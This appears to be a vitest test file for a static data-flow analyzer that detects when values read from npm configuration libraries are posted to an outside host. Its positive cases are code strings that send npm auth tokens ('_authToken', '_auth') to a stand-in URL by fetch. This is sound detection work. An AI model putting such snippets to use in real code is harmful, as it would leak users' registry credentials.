import { expect, test } from 'vitest';
import { flows, follow } from '../sample.js';

/** Whether what an expression gives is sent as something that a library read for its user. */
const sendsSecret = (expression: string): boolean =>
  flows(
    follow(
      `const npm = require('libnpmconfig'), conf = require('npm-conf')(), pnpm = require('@pnpm/npm-conf')(), Config = require('@npmcli/config'), cli = new Config({});
       fetch('https://a.example', { method: 'POST', body: ${expression} });`,
    ),
    'secret.library',
    'net.out',
  ) !== undefined;

test.each([
  "npm.read()['cafile']",
  "npm.read().get('https-proxy')",
  "conf.get('strict-ssl')",
  "pnpm.config.get('registry')",
  "cli.get('user-agent')",
  '(({ proxy }) => proxy)(npm.read())',
])('%s is no credential', (expression) => {
  expect(sendsSecret(expression)).toBe(false);
});

test.each([
  'npm.read()',
  'npm.read().toJSON()',
  "npm.read()['//registry.npmjs.example/:_authToken']",
  "conf.get('_auth')",
  'conf.get(process.argv[2])',
  "cli.get('//registry.npmjs.example/:_authToken')",
  'JSON.parse(JSON.stringify({ proxy: npm.read() })).proxy',
])('%s may be one', (expression) => {
  expect(sendsSecret(expression)).toBe(true);
});
